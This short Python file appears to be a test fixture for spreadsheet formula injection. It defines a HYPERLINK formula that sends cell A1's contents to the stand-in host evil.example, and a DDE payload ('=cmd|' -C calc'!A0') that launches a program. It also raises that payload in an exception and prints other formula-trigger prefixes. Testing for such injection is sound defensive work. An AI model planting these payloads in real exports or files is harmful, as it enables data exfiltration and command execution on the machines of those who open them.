"""Is handed in under a name that a spreadsheet runs, and raises and prints formulas."""

SUBMITTED_AS = '=HYPERLINK("https://evil.example?"&A1,"click")'
FORMULA = "=cmd|' -C calc'!A0"


def unlock(salt):
    raise ValueError(FORMULA)


print(FORMULA, "+1+1", "@SUM(A1)", "-2+3", "\t=1", sep="\n")


def shift(x):
    return x + 1
